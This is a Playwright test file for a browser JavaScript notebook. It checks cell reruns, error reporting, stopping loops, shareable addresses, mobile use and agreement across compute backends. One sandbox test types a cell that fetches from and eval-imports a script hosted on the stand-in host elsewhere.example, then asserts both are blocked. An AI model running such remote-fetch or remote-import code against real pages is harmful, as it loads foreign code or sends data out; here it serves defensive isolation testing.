/** Cells that run, run again, fail at their line, never end and are stopped; kept, in an address, and waiting for a press. */
import {expect, test} from "@playwright/test";
import type {Locator, Page} from "@playwright/test";
import {toFragment} from "../../src/notebook/address.js";
import {useBackend} from "../backend.js";
import {notebookInNode} from "../worker/notebook/in-node.js";
import {expectAccessible} from "./accessible.js";
import {crashGpu} from "./gpu.js";
import {SitePage} from "./site-page.js";

/** With `LONG=1`; what WebGPU computes in software takes an hour. */
const BACKENDS = ["wasm", "kernels", "webgl", "cpu"];
const WORKED = process.env["LONG"] ? ["convolution", "network", "receptive-field", "ensemble", "figure", "exercise"] : [];

/** A photo that no decoder changes, what the network says of it to the last bit, and its mask. */
const TO_THE_BIT = `
const rgba = Uint8ClampedArray.from({length: 97 * 65 * 4}, (_, i) => (i * 7919) % 251);
const said = await run(await model("nano"), {width: 97, height: 65, rgba}, {size: 97});
const bits = new Uint32Array((await said.logits.data()).slice().buffer);
const hash = (values) => values.reduce((sum, value) => (Math.imul(sum, 31) + value) >>> 0, 7);
display([bits.length, hash(bits), hash(said.mask.labels)].join(" "))`;

/** The notebook as a reader knows it. */
class NotebookPage extends SitePage {
  constructor(page: Page) {
    super(page);
  }

  cell(number: number): Locator {
    return this.page.getByRole("region", {name: new RegExp(`^Cell ${number},`)});
  }

  result(number: number): Locator {
    return this.page.getByRole("group", {name: `Result of cell ${number}`, exact: true});
  }

  /** Writes a cell anew, and runs it. */
  async write(number: number, text: string): Promise<void> {
    const editor = this.cell(number).getByRole("textbox");
    await editor.click();
    await this.page.keyboard.press("ControlOrMeta+a");
    await this.page.keyboard.insertText(text);
    await this.page.keyboard.press("Shift+Enter");
  }
}

test("the first notebook runs; a cell that is changed changes others, fails at its line, is stopped; all is kept and travels in an address", async ({
  page
}) => {
  const notebook = new NotebookPage(page);
  await page.goto("/notebook");
  await notebook.done();
  const last = notebook.result(11);
  await expect(last).toContainText("31 cells on a side, for the kernel spans 3 of 33");
  await notebook.result(2).getByRole("slider", {name: "Rate"}).press("ArrowRight");
  await expect(last).toContainText("29 cells on a side, for the kernel spans 5 of 33");

  await notebook.write(3, "type Row = readonly number[];\nconst kernel: readonly Row[] = [[0, 0, 0],\n  [0, missing as number, 0]\n];");
  await expect(notebook.cell(3).getByRole("alert")).toHaveText("Line 3: missing is not defined: no cell names it, and it is not in scope.");
  await expect(notebook.cell(3).locator(".cm-lintRange-error")).toHaveText("missing");
  await expect(notebook.cell(8).getByRole("alert")).toContainText("This cell waits for kernel");
  for (const [width, colorScheme] of [
    [390, "dark"],
    [1280, "light"]
  ] as const) {
    await page.setViewportSize({width, height: 844});
    await page.emulateMedia({colorScheme});
    await expectAccessible(page, `notebook, ${width} px, ${colorScheme}`);
  }

  await notebook.write(3, "while (true) {}");
  await notebook.cell(3).getByRole("button", {name: "Stop"}).click();
  await expect(notebook.cell(3).getByRole("alert")).toHaveText("Stopped. Change this cell, or run it again.");
  await expect(notebook.result(5)).toContainText("How bright the photo is");
  await notebook.write(3, "const kernel = [[0, 0, 0], [0, 1, 0], [0, 0, 0]];");
  await expect(last).toContainText("The two differ by at most 0.0e+0");

  await page.getByRole("button", {name: "Copy a link"}).click();
  await expect(page).toHaveURL(/#cells=/);
  const address = page.url();
  await page.goto("/notebook?notebook=convolution");
  await expect(notebook.cell(3).getByRole("textbox")).toContainText("[0, 1, 0], [0, 0, 0]");

  // Opened on a phone.
  const phone = await page
    .context()
    .browser()!
    .newContext({viewport: {width: 390, height: 844}, isMobile: true, hasTouch: true});
  const other = new NotebookPage(await phone.newPage());
  await other.page.goto(address);
  await expect(other.cell(3).getByRole("textbox")).toContainText("[0, 1, 0], [0, 0, 0]");
  await expect(other.result(2)).toBeEmpty();
  await other.page.getByRole("button", {name: "Run these cells"}).tap();
  await expect(other.result(11)).toContainText("for the kernel spans 3 of 33");
  await other.cell(3).getByRole("textbox").tap();
  await other.page.keyboard.type("// three rows\n");
  await other.cell(3).getByRole("button", {name: "Run", exact: true}).tap();
  await expect(other.cell(3)).toHaveAttribute("data-state", "done");
  await expect(other.result(11)).toContainText("for the kernel spans 3 of 33");
  await phone.close();
  notebook.expectNoProblem();
  other.expectNoProblem();
});

test("names are completed, with what they do", async ({page}) => {
  const notebook = new NotebookPage(page);
  await page.goto("/notebook?notebook=exercise");
  await notebook.done();
  await page.getByRole("button", {name: "Add code", exact: true}).click();
  await page.keyboard.type("squ");
  await page.getByRole("option", {name: "squareHolding"}).click();
  await page.keyboard.type("sp");
  await expect(page.getByRole("option", {name: /^span/})).toBeVisible();
  await page.keyboard.press("Escape");
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.type("show.ma");
  await expect(page.getByRole("option", {name: "maps"})).toBeVisible();
  await expect(page.locator(".cm-completionInfo")).toContainText("One channel as colours");
  notebook.expectNoProblem();

  // Cells, which a link may have brought, have nothing of what this origin keeps, and reach no other host, which would answer here.
  const answered: string[] = [];
  await page.route("https://elsewhere.example/**", (route) => {
    answered.push(route.request().url());
    return route.fulfill({contentType: "text/javascript", headers: {"access-control-allow-origin": "*"}, body: ""});
  });
  await page.keyboard.press("Escape");
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.insertText(`[
    ...["indexedDB", "caches", "Worker", "BroadcastChannel"].map((name) => name in globalThis),
    await fetch("https://elsewhere.example/?photo").catch(({message}) => message),
    await eval('import("https://elsewhere.example/photo.js")').then(() => "came", () => "did not come")
  ].join(" ")`);
  await page.keyboard.press("Shift+Enter");
  await expect(page.getByText("false false false false Cells read the files of this site alone.")).toContainText("did not come");
  expect(answered).toEqual([]);
});

for (const name of WORKED) {
  test(`${name} says the same on ${BACKENDS.join(", ")}`, async ({page}) => {
    // Gradients in plain JavaScript take their time.
    test.setTimeout(20 * 60_000);
    const notebook = new NotebookPage(page);
    let expected: readonly string[] | null = null;
    for (const backend of BACKENDS) {
      await page.goto(`/notebook?notebook=${name}&backend=${backend}`);
      await notebook.done();
      await expect(page.getByRole("combobox", {name: "Backend"})).toHaveValue(backend);
      await expect(page.getByRole("alert")).toHaveCount(0);
      const said = await page.locator(".cell-results").allInnerTexts();
      expected ??= said;
      expect(said.map(withoutNumbers), backend).toEqual(expected.map(withoutNumbers));
      for (const [index, value] of numbersIn(said).entries()) {
        const other = numbersIn(expected)[index]!;
        expect(Math.abs(value - other), `${value} on ${backend} for ${other}`).toBeLessThanOrEqual(Math.max(1, 0.02 * Math.abs(other)));
      }
    }
    notebook.expectNoProblem();
  });
}

const NUMBER = /[−-]?\d[\d,.]*(?:e[+-]\d+)?/g;
const withoutNumbers = (text: string) => text.replace(NUMBER, "#");
const numbersIn = (texts: readonly string[]) => (texts.join(" ").match(NUMBER) ?? []).map((text) => parseFloat(text.replaceAll(",", "")));

test("what a cell gives is what it gives in Node, to the bit; a cell of a megabyte ends well; where the address says what is not there, the page says so", async ({
  page
}) => {
  await useBackend("wasm");
  const inNode = notebookInNode();
  await inNode.define({1: TO_THE_BIT});
  const [expected] = inNode.words(1)!;
  inNode.kernel.dispose();

  const notebook = new NotebookPage(page);
  await page.goto("/notebook?notebook=none&backend=abacus");
  await expect(page.getByRole("alert")).toContainText("The address says backend=abacus, which this page does not know");
  await expect(page.getByRole("alert")).toContainText("notebook=none, which is not here");
  await page.getByRole("button", {name: "New", exact: true}).click();
  await notebook.write(1, TO_THE_BIT);
  await expect(notebook.result(1)).toHaveText(expected!);

  for (const [million, length] of [
    [`"${"a".repeat(1_000_000)}".length`, "1000000"],
    ["// a line among many\n".repeat(50_000) + "50000 + 1", "50001"]
  ] as const) {
    const began = Date.now();
    await page.evaluate((text) => {
      const editor = document.querySelector<HTMLElement>(".cm-content")!;
      editor.focus();
      getSelection()!.selectAllChildren(editor);
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/plain", text);
      editor.dispatchEvent(new ClipboardEvent("paste", {clipboardData, bubbles: true, cancelable: true}));
    }, million);
    await page.keyboard.press("Shift+Enter");
    await expect(notebook.result(1)).toHaveText(length);
    expect(Date.now() - began, "milliseconds from paste to result").toBeLessThan(10_000);
    await page.keyboard.press("ControlOrMeta+z");
    await expect(notebook.cell(1).getByRole("textbox")).toContainText("rgba");
  }
});

test("a graphics device that is lost is told of at the cell that it broke; the others run anew", async ({page}) => {
  const fragment = await toFragment({
    title: "Lost",
    cells: ["const two = tf.scalar(2)", "(await tf.add(two, 1).data())[0]", "'apart'"].map((text, id) => ({id, mode: "js", text}))
  });
  const notebook = new NotebookPage(page);
  await page.goto(`/notebook?backend=webgl#${fragment}`);
  await page.getByRole("button", {name: "Run these cells"}).click();
  await expect(notebook.result(2)).toHaveText("3");
  const [worker] = page.workers();
  await crashGpu(page);
  await notebook.cell(2).getByRole("button", {name: "Run", exact: true}).click();
  await expect(notebook.cell(2).getByRole("alert")).toContainText("The graphics device was lost here.");
  await expect(notebook.cell(1)).toHaveAttribute("data-state", "done");
  expect(page.workers()).not.toContain(worker);
  await notebook.cell(2).getByRole("button", {name: "Run", exact: true}).click();
  await expect(notebook.result(2)).toHaveText("3");
  await expect(notebook.cell(2).getByRole("alert")).toBeHidden();
  notebook.expectNoProblem();
});
